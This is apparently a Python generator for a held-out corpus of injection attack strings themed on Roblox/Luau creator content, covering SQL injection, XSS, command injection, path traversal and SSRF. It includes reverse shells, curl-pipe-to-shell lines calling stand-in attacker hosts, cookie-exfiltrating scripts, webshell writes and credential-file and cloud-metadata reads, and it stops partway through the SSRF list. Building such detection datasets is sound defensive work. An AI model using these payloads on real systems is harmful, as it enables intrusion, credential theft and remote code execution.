"""Attack held-out corpus for the roblox theme (game-creator community, Luau scripting).

Payloads are written by hand for this corpus from an understanding of each technique,
dressed in the notations of a Roblox/Luau creator community (snippets, datastore keys,
asset ids, output-window errors, DevForum posts, patch notes). A small share is produced
by template functions over hand-written pools. Output: attacks.jsonl next to this file.
Deterministic (fixed SEED, no set iteration).

class = "<context>-<technique>[+<encoding>]"; the context says where a vulnerable app
puts the value (SQL string, shell line, file path, fetched URL, template, raw HTML, log
line or header, LDAP filter / XPath query ...).
"""
import json
import random
from pathlib import Path
from urllib.parse import quote

SEED = 9002
PREFIX = "ha90"

# ====================================================================== sqli
SQLI = [
    ("search_place-union_select", "Sky Castle' UNION SELECT username, password_hash FROM users-- -"),
    ("search_place-union_select", "obby%' UNION ALL SELECT NULL,NULL,table_name,NULL FROM information_schema.tables-- "),
    ("search_place-boolean_blind", "Tycoon' AND SUBSTRING((SELECT api_key FROM creators WHERE id=1),1,1)='a'-- "),
    ("search_place-time_blind", "Brookhaven' AND SLEEP(5)-- x"),
    ("search_place-time_blind", "pet sim'||pg_sleep(6)||'"),
    ("search_place-time_blind", "horror'; WAITFOR DELAY '0:0:7'--"),
    ("datastore_key-tautology", "Player_193847562' OR '1'='1"),
    ("datastore_key-stacked", "Player_88213004'; DROP TABLE player_data;--"),
    ("datastore_key-stacked", "inventory:1:slot_1'; UPDATE inventory SET robux=999999 WHERE user_id=88213004;--"),
    ("datastore_key-union_select", "Season3_Rank_Top100' UNION SELECT group_concat(email||':'||pw) FROM accounts--"),
    ("asset_id-numeric_union", "1837849285 UNION SELECT 1,session_token,3 FROM sessions"),
    ("asset_id-numeric_boolean", "6031094678 AND 1=(SELECT COUNT(*) FROM admins WHERE name LIKE 'a%')"),
    ("asset_id-numeric_time", "920587237 AND (SELECT 1 FROM (SELECT SLEEP(4))x)"),
    ("asset_id-error_based", "4902835671 AND extractvalue(1,concat(0x7e,(SELECT password FROM users LIMIT 1)))"),
    ("asset_id-error_based", "7074836012 AND updatexml(1,concat(0x3a,version()),1)"),
    ("asset_id-error_based", "12938471 AND 1=CONVERT(int,(SELECT TOP 1 name FROM sysobjects WHERE xtype='U'))"),
    ("asset_id-error_based", "1184402001 AND 1=CAST((SELECT current_user) AS int)"),
    ("place_id-order_by_probe", "6516141723 ORDER BY 9-- "),
    ("place_id-stacked", "6516141723; INSERT INTO mods(user_id,rank) VALUES (55021877,255)--"),
    ("username-comment_truncation", "admin'-- "),
    ("username-comment_truncation", "builderman'#"),
    ("username-tautology", "x_Noob_x' OR 1=1 LIMIT 1 OFFSET 2-- "),
    ("username-tautology", "' or ''='"),
    ("login_password-tautology", "anything' OR 'x'='x'/*"),
    ("devforum_search-union_select", "`task.wait` ') UNION SELECT id, body, author, NULL FROM private_messages-- "),
    ("devforum_search-boolean_blind", "metatables' AND (SELECT ASCII(SUBSTR(token,1,1)) FROM oauth_tokens WHERE rownum=1)>77-- "),
    ("devforum_search-time_blind", "pcall SetAsync' AND 4821=(SELECT 4821 FROM PG_SLEEP(5))-- "),
    ("devforum_reply-stacked", "Marked as solution ✅'); DELETE FROM posts WHERE category='Scripting Support';--"),
    ("devforum_reply-stacked_exec", "thx!'; EXEC xp_cmdshell 'powershell -c iwr http://203.0.113.40/b.ps1 | iex';--"),
    ("game_description-stacked", "Welcome to Obby But You're A Pizza 🍕'); UPDATE games SET owner_id=55021877 WHERE place_id=6516141723;--"),
    ("game_description-subquery_exfil", "Survive the disasters!' || (SELECT string_agg(email, ',') FROM users) || '"),
    ("patch_notes-stacked", "v1.3.3\n- Fixed doors';\nDROP TABLE badges;--"),
    ("patch_notes-second_order", "v2.0'), ((SELECT password_hash FROM users WHERE username='builderman'), 'x')-- "),
    ("sort_param-order_by_case", "(CASE WHEN (SELECT substr(secret,1,1) FROM config)='k' THEN visits ELSE likes END)"),
    ("sort_param-order_by_if", "IF((SELECT COUNT(*) FROM admins)>3,favorites,created_at)"),
    ("leaderboard_limit-limit_procedure", "10 PROCEDURE ANALYSE(EXTRACTVALUE(5151,CONCAT(0x5c,VERSION())),1)"),
    ("leaderboard_limit-union_select", "10 UNION SELECT user_id, robux_balance FROM wallets"),
    ("group_id-boolean_blind", "1234567 AND (SELECT 'x' FROM dual WHERE 1=1)='x'"),
    ("group_id-oob_dns", "1234567; SELECT load_file(CONCAT('\\\\\\\\',(SELECT password FROM mysql.user LIMIT 1),'.x.attacker.example\\\\a'))"),
    ("group_id-oob_mssql", "1234567; EXEC master..xp_dirtree '\\\\db.attacker.example\\share'--"),
    ("badge_name-sqlite_schema", "Met The Owner' UNION SELECT sql, name FROM sqlite_master--"),
    ("badge_name-sqlite_attach", "Noob'; ATTACH DATABASE '/var/www/html/s.php' AS s; CREATE TABLE s.p (c text); INSERT INTO s.p VALUES ('<?php system($_GET[0]); ?>');--"),
    ("gamepass_price-numeric_tautology", "299 OR 1=1"),
    ("gamepass_price-stacked", "0; UPDATE gamepasses SET price=0--"),
    ("trade_note-insert_breakout", "good trade :)', 1); INSERT INTO trades(from_id,to_id,item) VALUES (1,55021877,'Huge Rainbow Cat');--"),
    ("trade_note-oracle_utl_http", "gg' || UTL_HTTP.REQUEST('http://ex.attacker.example/'||(SELECT user FROM dual)) || '"),
    ("report_reason-postgres_copy", "exploiting'; COPY (SELECT '') TO PROGRAM 'curl -s 198.51.100.7/r.sh | sh';--"),
    ("report_reason-mysql_outfile", "spam' UNION SELECT '<?php passthru($_REQUEST[\"c\"]); ?>',2 INTO OUTFILE '/var/www/html/c.php'-- "),
    ("chat_log_filter-like_wildcard", "%' AND 1=0 UNION SELECT message, sender FROM chat_logs WHERE filtered=0 AND '%'='"),
    ("luau_snippet-embedded_union", "local name = \"Sword\" ' UNION SELECT pw FROM users --\nprint(name)"),
    ("luau_snippet-embedded_stacked", "-- save helper\nstore:SetAsync(\"k\", 1)'; TRUNCATE TABLE snippets; --"),
    ("output_error-log_to_sql", "ServerScriptService.Main:14: attempt to index nil with 'x'); DROP TABLE error_reports;--"),
    ("module_name-union_select", "ReplicatedStorage.Modules.DataService\" UNION SELECT api_secret FROM integrations WHERE \"1\"=\"1"),
    ("universe_id-numeric_union+hex_literals", "2317712696 UNION SELECT 0x61646d696e, 0x70617373"),
    ("universe_id-numeric_boolean+char_function", "2317712696 AND username=CHAR(98,117,105,108,100,101,114,109,97,110)"),
    ("search_place-union_select+case_mixing", "Sky' uNiOn SeLeCt password,1 fRoM users-- "),
    ("search_place-union_select+comment_spacing", "Sky'/**/UNION/**/SELECT/**/token,2/**/FROM/**/sessions#"),
    ("search_place-union_select+versioned_comment", "Sky' /*!50000UNION*/ /*!50000SELECT*/ pw,2 FROM users-- "),
    ("asset_id-numeric_union+newline_spacing", "1837849285\nUNION\nSELECT\nemail,2\nFROM\nusers"),
    ("username-tautology+url_encoded", "admin%27%20OR%20%271%27%3D%271"),
    ("search_place-union_select+double_url_encoded", "Tycoon%2527%2520UNION%2520SELECT%2520pw%252C2%2520FROM%2520users--%2520"),
    ("datastore_key-tautology+unicode_homoglyph_quote", "Player_1\u02bc OR 1=1-- "),
    ("plain-union_select", "' UNION SELECT NULL, username || ':' || password FROM users--"),
    ("plain-tautology", "1' OR '1'='1' -- "),
    ("plain-time_blind", "1) AND SLEEP(10) AND (1=1"),
    ("plain-stacked", "'; SHUTDOWN WITH NOWAIT;--"),
    ("plain-boolean_blind", "' AND (SELECT COUNT(*) FROM users WHERE username='admin' AND LENGTH(password)>8)>0-- "),
    ("plain-numeric_tautology", "1 OR 1=1"),
    ("plain-exists_subquery", "' OR EXISTS(SELECT 1 FROM users WHERE username='admin')-- "),
]
SQLI_PLACES = ["Sky Castle", "Brookhaven", "Cheese Tycoon", "Haunted Manor", "Pet Sim"]
SQLI_TAILS = [
    "' UNION SELECT {c}, 2 FROM {t}-- ",
    "' AND (SELECT {c} FROM {t} LIMIT 1) LIKE 'a%'-- ",
    "') OR EXISTS(SELECT {c} FROM {t})-- ",
]
SQLI_COLS = [("password_hash", "users"), ("robux", "wallets"), ("token", "sessions"), ("webhook_url", "games")]


def t_sqli(r):
    c, t = r.choice(SQLI_COLS)
    return "sqli", "search_place-templated_subquery", r.choice(SQLI_PLACES) + r.choice(SQLI_TAILS).replace("{c}", c).replace("{t}", t)


# ====================================================================== xss
XSS = [
    ("game_description-script_tag", "⚔️ Sword Fight Arena ⚔️<script>fetch('https://attacker.example/c?'+document.cookie)</script>"),
    ("game_description-img_onerror", "Cozy café roleplay <3 <img src=x onerror=\"location='//attacker.example/?c='+document.cookie\">"),
    ("game_description-svg_onload", "Tower defense! <svg onload=alert(document.domain)>"),
    ("game_description-iframe_srcdoc", "Join the group! <iframe srcdoc=\"<script>parent.postMessage(localStorage.getItem('auth'),'*')</script>\"></iframe>"),
    ("patch_notes-details_ontoggle", "v1.3.2\n- Fixed doors <details open ontoggle=\"import('//attacker.example/x.js')\">"),
    ("patch_notes-markdown_js_link", "Changelog: see [full notes](javascript:fetch('//attacker.example/'+btoa(document.cookie)))"),
    ("patch_notes-markdown_img_attr", "![banner](https://cdn.example/b.png\"onerror=\"alert(1))"),
    ("devforum_code-closing_code_tag", "```lua\nprint(\"hi\")\n```</code></pre><script src=//attacker.example/f.js></script>"),
    ("devforum_code-textarea_breakout", "local x = 1</textarea><img src=1 onerror=alert(origin)>"),
    ("devforum_code-title_breakout", "</title><script>new Image().src='//203.0.113.9/l?'+document.cookie</script>"),
    ("devforum_answer-style_breakout", "Use Scale not Offset </style><script>alert(1)</script>"),
    ("richtext_label-font_attr_breakout", "<font color=\"#FF0000\" onmouseover=\"alert(document.cookie)\">VIP</font>"),
    ("richtext_label-font_attr_quote", "<font color='#FF0000'><img src=x onerror=eval(atob('YWxlcnQoMSk='))></font>"),
    ("display_name-attr_breakout", "\" autofocus onfocus=\"fetch('//attacker.example/?'+document.cookie)"),
    ("display_name-attr_breakout_single", "' onpointerenter='alert(1)' x='"),
    ("place_name-js_string_breakout", "Sky Castle\";fetch('//attacker.example/?'+document.cookie);//"),
    ("place_name-js_template_breakout", "Obby`;alert(document.domain);`"),
    ("place_name-script_close_in_json", "Escape!</script><script>alert(1)</script>"),
    ("asset_url-javascript_scheme", "javascript:alert(document.cookie)//rbxassetid://1837849285"),
    ("asset_url-data_uri_html", "data:text/html;base64,PHNjcmlwdD5hbGVydChkb2N1bWVudC5jb29raWUpPC9zY3JpcHQ+"),
    ("asset_url-javascript_scheme+tab_split", "java\tscript:alert(1)"),
    ("asset_url-javascript_scheme+named_entity", "javascript&colon;alert(document.domain)"),
    ("avatar_url-svg_upload_inline", "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(document.domain)</script></svg>"),
    ("chat_message-marquee_event", "gg ez <marquee onstart=alert(1)>lol</marquee>"),
    ("chat_message-body_onload", "<body onload=alert('ban appeal')>"),
    ("chat_message-input_autofocus", "<input autofocus onfocus=alert(1)>"),
    ("chat_message-video_source_onerror", "<video><source onerror=\"alert(document.cookie)\"></video>"),
    ("chat_message-audio_src_onerror", "check this sfx <audio src=rbxassetid://0 onerror=alert(1)>"),
    ("badge_description-object_data", "<object data=\"javascript:alert(document.domain)\"></object>"),
    ("badge_description-embed_src", "Met the owner! <embed src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">"),
    ("badge_description-form_action", "<form action=\"https://attacker.example/login\"><input name=password placeholder=\"Re-enter your password\"><button>Claim badge</button></form>"),
    ("badge_description-meta_refresh", "<meta http-equiv=\"refresh\" content=\"0;url=https://attacker.example/free-robux\">"),
    ("badge_description-base_href", "<base href=\"https://attacker.example/\">"),
    ("group_wall-angular_template", "{{constructor.constructor('alert(document.cookie)')()}}"),
    ("group_wall-vue_template", "<div v-html=\"''.constructor.constructor('alert(1)')()\">x</div>"),
    ("group_wall-link_target", "<a href=\"javascript:void(fetch('//attacker.example/'+localStorage.token))\">free VIP server</a>"),
    ("group_wall-svg_animate", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
    ("group_wall-svg_set_href", "<svg><a><set attributeName=href to=javascript:alert(1) /><text y=20>click</text></a></svg>"),
    ("group_wall-math_href", "<math><mtext><a href=\"javascript:alert(1)\">stage 23 skip</a></mtext></math>"),
    ("module_name-dom_hash_sink", "DataService#<img src=x onerror=alert(1)>"),
    ("output_error-log_viewer_html", "ServerScriptService.Main:14: attempt to index nil with '<img src=x onerror=alert(document.domain)>'"),
    ("output_error-log_viewer_script", "Infinite yield possible on 'ReplicatedStorage:WaitForChild(\"</pre><script>alert(1)</script>\")'"),
    ("datastore_key-admin_panel_html", "Player_193847562<script>document.location='//attacker.example/'+document.cookie</script>"),
    ("multilingual_post-script_tag", "¡Hola a todos! <script>alert('¡hackeado!')</script>"),
    ("multilingual_post-img_onerror", "こんにちは<img src=x onerror=alert('x')>"),
    ("luau_snippet-comment_breakout", "--[[ door ]] </code><svg/onload=alert(1)>"),
    ("trade_note-onanimationstart", "<style>@keyframes x{}</style><b style=\"animation-name:x\" onanimationstart=\"alert(1)\">trade?</b>"),
    ("trade_note-css_exfil", "<style>input[name=csrf][value^=a]{background:url(//attacker.example/a)}</style>"),
    ("bio-mutation_noscript", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"),
    ("bio-mxss_svg_style", "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">"),
    ("bio-srcset_onerror", "<img srcset=\",,,,x\" onerror=alert(1)>"),
    ("search_box-reflected_script", "\"><script>alert(document.cookie)</script>"),
    ("search_box-reflected_attr", "union tutorial\" onmouseover=alert(1) a=\""),
    ("search_box-jsonp_callback", "alert(document.domain)//"),
    ("game_description-script_tag+html_entities", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    ("game_description-javascript_link+decimal_entities", "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">Play</a>"),
    ("game_description-javascript_link+hex_entities", "<a href=\"&#x6a;avascript&#x3a;alert(document.cookie)\">Codes here</a>"),
    ("chat_message-script_tag+case_mixing", "<ScRiPt>alert(1)</sCrIpT>"),
    ("chat_message-img_onerror+url_encoded", "%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E"),
    ("search_box-svg_onload+double_url_encoded", "%253Csvg%2520onload%253Dalert(1)%253E"),
    ("richtext_label-img_onerror+unicode_escape", "<img src=x onerror=\"\\u0061\\u006c\\u0065\\u0072\\u0074(1)\">"),
    ("richtext_label-img_onerror+hex_escape", "<img src=x onerror=\"eval('\\x61\\x6c\\x65\\x72\\x74\\x28\\x31\\x29')\">"),
    ("bio-script_tag+null_byte", "<scr\u0000ipt>alert(1)</scr\u0000ipt>"),
    ("plain-script_tag", "<script>alert(1)</script>"),
    ("plain-img_onerror", "<img src=x onerror=alert(document.cookie)>"),
    ("plain-svg_onload", "<svg/onload=confirm(1)>"),
    ("plain-iframe_javascript", "<iframe src=\"javascript:alert(1)\"></iframe>"),
    ("plain-attr_breakout", "\"><body onpageshow=alert(1)>"),
    ("plain-javascript_href", "<a href=javascript:alert(1)>x</a>"),
    ("plain-js_string_breakout", "';alert(1);//"),
]
XSS_FIELDS = ["Sky Castle Obby", "Café ☕ Roleplay", "Pet Sim X", "Sword Fight Arena", "Haunted Manor"]
XSS_VECTORS = ["<img src=x onerror=alert({n})>", "<svg onload=alert({n})>", "<b onmouseover=alert({n})>hover</b>",
               "<details open ontoggle=alert({n})>"]


def t_xss(r):
    v = r.choice(XSS_VECTORS).replace("{n}", str(r.randint(1, 999)))
    return "xss", "place_name-templated_event_handler", f"{r.choice(XSS_FIELDS)} {v}"


# ====================================================================== cmdi
CMDI = [
    ("asset_id-semicolon", "1837849285; cat /etc/passwd"),
    ("asset_id-pipe", "1837849285 | nc 203.0.113.12 4444 -e /bin/sh"),
    ("asset_id-and_chain", "6031094678 && curl -s http://attacker.example/x.sh | bash"),
    ("asset_id-or_chain", "0 || wget -qO- http://198.51.100.23/p | sh"),
    ("asset_id-subshell_dollar", "$(id)"),
    ("asset_id-backticks", "4902835671`whoami`"),
    ("place_file-semicolon", "obby_final_FINAL_v2.rbxlx; rm -rf /srv/places/*"),
    ("place_file-newline", "MyPlace.rbxl\nid > /tmp/pwned"),
    ("place_file-subshell", "Baseplate_$(curl attacker.example/$(hostname)).rbxl"),
    ("place_file-option_injection", "--output=/var/www/html/shell.php"),
    ("place_file-tar_checkpoint", "--checkpoint=1 --checkpoint-action=exec=sh\\ /tmp/r.sh"),
    ("module_name-git_upload_pack", "--upload-pack=touch /tmp/owned;"),
    ("module_name-wally_semicolon", "sleitnick/knit@1.5.1; curl -d @/etc/shadow https://attacker.example/u"),
    ("module_name-npm_pipe", "@rbxts/services | bash -i >& /dev/tcp/203.0.113.77/9001 0>&1"),
    ("module_name-rojo_build_subshell", "default.project.json$(sleep 9)"),
    ("thumbnail_render-semicolon+ifs_spacing", "1837849285;cat${IFS}/etc/passwd"),
    ("thumbnail_render-brace_expansion", "1;{cat,/etc/hostname}"),
    ("thumbnail_render-semicolon+ansi_c_hex", "1;$'\\x63\\x61\\x74' /etc/passwd"),
    ("thumbnail_render-semicolon+quote_splitting", "1;w'h'o\"am\"i"),
    ("thumbnail_render-semicolon+backslash_split", "1;c\\at /e\\tc/pa\\sswd"),
    ("thumbnail_render-semicolon+glob_wildcards", "1;/???/c?t /???/p??s??"),
    ("thumbnail_render-variable_concat", "1;a=c;b=at;$a$b /etc/passwd"),
    ("thumbnail_render-base64_pipe", "1;echo Y3VybCBhdHRhY2tlci5leGFtcGxlL3J8c2g= | base64 -d | sh"),
    ("thumbnail_render-rev_pipe", "1;echo 'dwssap/cte/ tac' | rev | sh"),
    ("audio_convert-ffmpeg_filename", "sfx.ogg\"; curl http://attacker.example/$(whoami); echo \""),
    ("audio_convert-single_quote_break", "explosion'; python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.5\",443));[os.dup2(s.fileno(),f) for f in(0,1,2)];pty.spawn(\"sh\")'; echo '"),
    ("audio_convert-process_substitution", "drop of water <(curl -s attacker.example/a)"),
    ("image_resize-imagemagick_pipe", "|curl -s http://attacker.example/im | sh"),
    ("image_resize-redirect_write", "decal.png > /var/www/html/index.html"),
    ("ping_server-semicolon", "127.0.0.1; ls -la /home"),
    ("ping_server-newline+url_encoded", "10.0.0.1%0acat%20/etc/passwd"),
    ("ping_server-and_chain+url_encoded", "8.8.8.8%26%26id"),
    ("ping_server-semicolon+double_url_encoded", "8.8.8.8%253Bid"),
    ("webhook_test-curl_option", "https://discord.example/api/webhooks/1 -o /var/www/html/x.php"),
    ("webhook_test-curl_config_file", "-K /etc/passwd"),
    ("webhook_test-curl_upload", "https://hook.example/ --upload-file /app/.env https://attacker.example/"),
    ("datastore_key-backup_script", "Player_193847562'; tar czf - /app | curl -T - http://attacker.example/up; '"),
    ("datastore_key-dollar_paren", "Player_$(cat /proc/self/environ | base64 -w0 | curl -d @- attacker.example)"),
    ("luau_snippet-os_execute", "os.execute(\"curl http://attacker.example/s | sh\")"),
    ("luau_snippet-io_popen", "local h = io.popen(\"cat /etc/passwd\")\nprint(h:read(\"*a\"))"),
    ("luau_snippet-lua_run_cmd", "-- lint this please\nlocal x = 1; os.execute('nc -e /bin/bash 198.51.100.9 53')"),
    ("output_error-grep_search", "attempt to index nil' /dev/null; id; echo '"),
    ("patch_notes-git_commit_msg", "v1.3.2 fixes\"; curl attacker.example/g | sh; echo \""),
    ("patch_notes-backtick", "Hotfix `curl -s 203.0.113.66/h | sh` applied"),
    ("game_description-perl_open", "|/usr/bin/id"),
    ("game_description-env_expansion", "${PATH:0:1}etc${PATH:0:1}passwd"),
    ("windows_studio_path-ampersand", "C:\\Users\\Rin\\Documents\\ROBLOX\\MyPlace.rbxl & type C:\\Windows\\win.ini"),
    ("windows_studio_path-pipe", "MyPlace.rbxl | powershell -nop -w hidden -c \"iex(iwr http://attacker.example/p.ps1)\""),
    ("windows_studio_path-ampersand+caret_obfuscation", "x.rbxl & w^h^o^a^m^i"),
    ("windows_studio_path-ampersand+env_substring", "x.rbxl & %COMSPEC:~0,1%%COMSPEC:~-4,1%d.exe /c dir"),
    ("windows_studio_path-certutil", "obby.rbxl && certutil -urlcache -split -f http://198.51.100.4/a.exe %TEMP%\\a.exe && %TEMP%\\a.exe"),
    ("windows_studio_path-powershell_encoded", "a.rbxl; powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA"),
    ("trade_note-sleep_timing", "gg; sleep 15 #"),
    ("trade_note-ping_timing", "x| ping -c 20 127.0.0.1 |"),
    ("report_reason-dns_exfil", "exploiter; nslookup $(whoami).cmd.attacker.example"),
    ("report_reason-find_exec", "spam; find / -name '*.env' -exec curl -F f=@{} attacker.example \\;"),
    ("multilingual_post-semicolon", "¿Por qué no funciona? ; cat /etc/shadow"),
    ("chat_message-crontab", "gg; (crontab -l; echo '* * * * * curl attacker.example/c|sh') | crontab -"),
    ("group_id-ssh_key_write", "1234567; echo 'ssh-ed25519 AAAAC3FAKEKEYFORTESTS attacker' >> ~/.ssh/authorized_keys"),
    ("asset_id-tab_separator", "1837849285;\tuname\t-a"),
    ("plain-semicolon", "; id"),
    ("plain-pipe", "| cat /etc/passwd"),
    ("plain-subshell", "$(curl attacker.example)"),
    ("plain-backtick", "`uname -a`"),
    ("plain-and_chain", "&& wget http://203.0.113.8/x -O /tmp/x && chmod +x /tmp/x && /tmp/x"),
    ("plain-or_chain", "|| id"),
    ("plain-newline", "\nid"),
    ("plain-sleep_timing", "; sleep 10"),
]
CMDI_BASES = ["1837849285", "MyPlace.rbxl", "Player_55021877", "sfx_explosion.ogg", "Baseplate"]
CMDI_SEPS = ["; ", " | ", " && ", "\n", " || "]
CMDI_CMDS = ["id", "cat /etc/passwd", "curl attacker.example/t", "uname -a", "ls /root", "env"]


def t_cmdi(r):
    return "cmdi", "asset_id-templated_separator", r.choice(CMDI_BASES) + r.choice(CMDI_SEPS) + r.choice(CMDI_CMDS)


# ====================================================================== traversal
TRAVERSAL = [
    ("place_file-dotdot_passwd", "../../../../etc/passwd"),
    ("place_file-dotdot_rbxl_suffix", "../../../../etc/passwd%00.rbxl"),
    ("place_file-dotdot_app_env", "../../app/.env"),
    ("place_file-dotdot_project_json", "../../../srv/roblox-api/config/default.project.json"),
    ("place_file-absolute_path", "/etc/shadow"),
    ("place_file-absolute_proc", "/proc/self/environ"),
    ("place_file-proc_cmdline", "/proc/1/cmdline"),
    ("place_file-windows_backslash", "..\\..\\..\\Windows\\win.ini"),
    ("place_file-windows_absolute", "C:\\Windows\\System32\\drivers\\etc\\hosts"),
    ("place_file-windows_unc", "\\\\198.51.100.14\\share\\evil.rbxl"),
    ("place_file-mixed_slashes", "..\\../..\\../etc/passwd"),
    ("module_name-require_path", "require(\"../../../../../etc/passwd\")"),
    ("module_name-dotdot_lua", "Modules/../../../../../../root/.ssh/id_rsa"),
    ("module_name-nested_strip_bypass", "....//....//....//etc/passwd"),
    ("module_name-nested_backslash_bypass", "....\\\\....\\\\....\\\\windows\\\\win.ini"),
    ("module_name-dot_slash_noise", "./././../../.././etc/./passwd"),
    ("asset_download-dotdot+url_encoded", "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
    ("asset_download-dotdot+double_url_encoded", "%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fpasswd"),
    ("asset_download-dotdot+overlong_utf8", "%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%afetc%c0%afpasswd"),
    ("asset_download-dotdot+overlong_utf8_slash", "..%c0%af..%c0%af..%c0%afetc/passwd"),
    ("asset_download-dotdot+iis_u_encoding", "..%u2216..%u2216..%u2216windows%u2216win.ini"),
    ("asset_download-dotdot+mixed_encoding", "..%2f..%2f..%5c..%5cetc/passwd"),
    ("asset_download-dotdot+encoded_dots", "%2e%2e/%2e%2e/%2e%2e/var/log/nginx/access.log"),
    ("asset_download-dotdot+fullwidth_unicode", "．．／．．／．．／etc／passwd"),
    ("asset_download-dotdot+url_encoded_case_mixing", "..%2F..%2f..%2FeTc%2fPaSsWd"),
    ("thumbnail_cache-cache_key_dotdot", "thumbs/1837849285/../../../../../var/lib/app/db.sqlite3"),
    ("thumbnail_cache-trailing_dot_ext", "../../../../etc/passwd/."),
    ("datastore_key-backup_file", "Player_193847562/../../../../home/app/.aws/credentials"),
    ("datastore_key-dotdot_key_file", "global/leaderboard/../../../../etc/ssl/private/server.key"),
    ("log_viewer-dotdot_logs", "mod_log_2024-06-01.txt/../../../../../etc/group"),
    ("log_viewer-windows_logs", "%LOCALAPPDATA%\\Roblox\\logs\\..\\..\\..\\..\\..\\Windows\\repair\\SAM"),
    ("log_viewer-nginx_log_poison_read", "../../../../var/log/nginx/error.log"),
    ("plugin_install-zip_slip", "MoonAnimator/../../../../../usr/local/bin/rojo"),
    ("plugin_install-zip_slip_windows", "F3X\\..\\..\\..\\..\\Users\\Public\\Start Menu\\Programs\\Startup\\run.bat"),
    ("avatar_upload-filename_dotdot", "../../../var/www/html/avatar.php"),
    ("avatar_upload-filename_semicolon_ext", "..;/..;/WEB-INF/web.xml"),
    ("audio_stream-file_scheme", "file:///etc/passwd"),
    ("audio_stream-file_scheme_windows", "file:///C:/Users/Administrator/Desktop/passwords.txt"),
    ("game_icon-php_filter_wrapper", "php://filter/convert.base64-encode/resource=../config.php"),
    ("game_icon-java_webinf", "../../WEB-INF/classes/application.properties"),
    ("game_icon-git_config", "../../../.git/config"),
    ("game_icon-kube_token", "../../../../var/run/secrets/kubernetes.io/serviceaccount/token"),
    ("place_file-docker_env", "/../../../../../proc/self/cwd/.env"),
    ("place_file-absolute_home_history", "/root/.bash_history"),
    ("place_file-dotdot_question_mark", "../../../../etc/passwd?.rbxlx"),
    ("plain-dotdot_passwd", "../../../etc/passwd"),
    ("plain-windows_dotdot", "..\\..\\..\\boot.ini"),
    ("plain-dotdot+url_encoded", "..%2F..%2F..%2F..%2Fetc%2Fhosts"),
]
TRAV_PREFIXES = ["places/", "thumbs/", "Modules/", "assets/audio/", "logs/", ""]
TRAV_TARGETS = ["etc/passwd", "etc/hosts", "proc/self/environ", "app/config.json", "root/.ssh/authorized_keys"]


def t_trav(r):
    depth = r.randint(3, 8)
    return "traversal", "place_file-templated_dotdot", r.choice(TRAV_PREFIXES) + "../" * depth + r.choice(TRAV_TARGETS)


# ====================================================================== ssrf
SSRF = [
    ("asset_url-cloud_metadata", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("asset_url-gcp_metadata", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"),
    ("asset_url-azure_metadata", "http://169.254.169.254/metadata/instance?api-version=2021-02-01"),
    ("asset_url-alibaba_metadata", "http://100.100.100.200/latest/meta-data/"),
    ("asset_url-localhost_admin", "http://localhost:8080/admin/ban?user=1"),
    ("asset_url-loopback_redis", "http://127.0.0.1:6379/"),
    ("asset_url-loopback_ipv6", "http://[::1]:8000/internal/config"),
    ("asset_url-ipv4_mapped_ipv6", "http://[::ffff:127.0.0.1]/server-status"),
    ("asset_url-loopback+decimal_ip", "http://2130706433/admin"),
    ("asset_url-loopback+hex_ip", "http://0x7f000001/"),
    ("asset_url-loopback+octal_ip", "http://0177.0.0.1:5000/debug"),
    ("asset_url-loopback+short_ip", "http://127.1/"),
    ("asset_url-zero_ip", "http://0.0.0.0:9200/_cat/indices"),
    ("asset_url-cloud_metadata+decimal_ip", "http://2852039166/latest/user-data"),
    ("asset_url-cloud_metadata+mixed_octal_hex", "http://0xa9.0376.169.254/latest/meta-data/"),
    ("asset_url-userinfo_confusion", "https://create.roblox.com@127.0.0.1:8001/internal"),
    ("asset_url-userinfo_metadata", "https://cdn.roblox.example@169.254.169.254/latest/meta-data/"),
    ("asset_url-fragment_confusion", "http://127.0.0.1:8080#@assetdelivery.roblox.com/v1/asset?id=1"),
    ("asset_url-backslash_confusion", "http://attacker.example\\@assetdelivery.roblox.com/"),
    ("asset_url-dns_rebinding_name", "http://127.0.0.1.nip.attacker.example/admin"),
    ("asset_url-rebind_host", "http://rebind-a9fe-7f01.attacker.example/latest/meta-data/"),
    ("asset_url-open_redirect_chain", "https://attacker.example/r?to=http://169.254.169.254/latest/meta-data/"),
    ("asset_url-loopback+url_encoded_host", "http://%31%32%37%2e%30%2e%30%2e%31/admin"),
    ("asset_url-loopback+enclosed_alphanumerics", "http://①②⑦.⓪.⓪.①/"),
    ("webhook_url-gopher_redis", "gopher://127.0.0.1:6379/_SET%20x%20%22%5Cn*%2F1%20*%20*%20*%20*%20curl%20attacker.example%7Csh%5Cn%22%0D%0ASAVE%0D%0A"),
    ("webhook_url-gopher_smtp", "gopher://127.0.0.1:25/_HELO%20x%0D%0AMAIL%20FROM%3A%3Ca%40attacker.example%3E%0D%0A"),
    ("webhook_url-dict_scheme", "dict://127.0.0.1:11211/stats"),
    ("webhook_url-file_scheme", "file:///app/config/secrets.json"),
    ("webhook_url-ftp_internal", "ftp://10.0.0.5/backups/db.sql"),
    ("webhook_url-ldap_scheme", "ldap://127.0.0.1:389/dc=internal"),
    ("webhook_url-internal_k8s", "https://kubernetes.default.svc/api/v1/namespaces/default/secrets"),
    ("webhook_url-docker_socket_api", "http://127.0.0.1:2375/containers/json"),
    ("webhook_url-internal_rfc1918", "http://10.10.0.12:8500/v1/kv/?recurse"),
    ("webhook_url-internal_172", "http://172.17.0.1:9000/minio/admin/v3/info"),
    ("webhook_url-internal_192", "http://192.168.1.1/cgi-bin/luci"),
    ("webhook_url-consul_token", "http://consul.service.consul:8500/v1/acl/tokens"),
    ("webhook_url-jar_scheme", "jar:http://attacker.example/a.jar!/x.class"),
